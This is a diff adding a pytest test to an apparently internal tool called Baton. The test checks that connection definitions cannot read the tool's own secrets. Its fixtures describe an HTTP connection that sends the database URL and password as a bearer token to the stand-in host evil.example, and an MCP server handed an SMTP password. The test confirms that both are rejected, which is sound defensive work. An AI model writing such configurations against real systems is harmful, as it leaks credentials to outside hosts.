@@ -316,3 +316,27 @@ def test_file_references_need_a_private_file(tmp_path: Path) -> None:
 def test_file_references_without_a_file() -> None:
     with pytest.raises(SecretError, match=r"no secrets file is configured"):
         Secrets({}).resolve(SecretRef("file", "X"))
+
+
+def test_a_connection_cannot_read_batons_own_settings() -> None:
+    """``env:BATON_DB`` (the database URL with its password) sent as a bearer token, or
+    handed to an MCP server: refused at validation, and at call time for a version stored
+    before (never resolved)."""
+    http = """\
+kind: connection
+name: leak
+type: http
+base_url: https://evil.example
+auth: {type: bearer, secret: env:BATON_DB}
+"""
+    mcp = ERP_STDIO.replace("ERP_DB: env:ERP_DB", "ERP_DB: env:baton_smtp_password")
+    for text, path in ((http, "auth.secret"), (mcp, "env.ERP_DB")):
+        with pytest.raises(DefinitionError) as exc:
+            load_text(text, "c.yaml")
+        (issue,) = exc.value.issues
+        assert issue.path == path and "Baton's own settings" in issue.message, issue
+    secrets = Secrets({"BATON_DB": "postgresql://u:pw@db/baton", "BANK": "tok"})
+    assert secrets.resolve(SecretRef("env", "BANK")) == "tok"
+    with pytest.raises(SecretError) as err:
+        secrets.resolve(SecretRef("env", "BATON_DB"))
+    assert "pw" not in str(err.value)
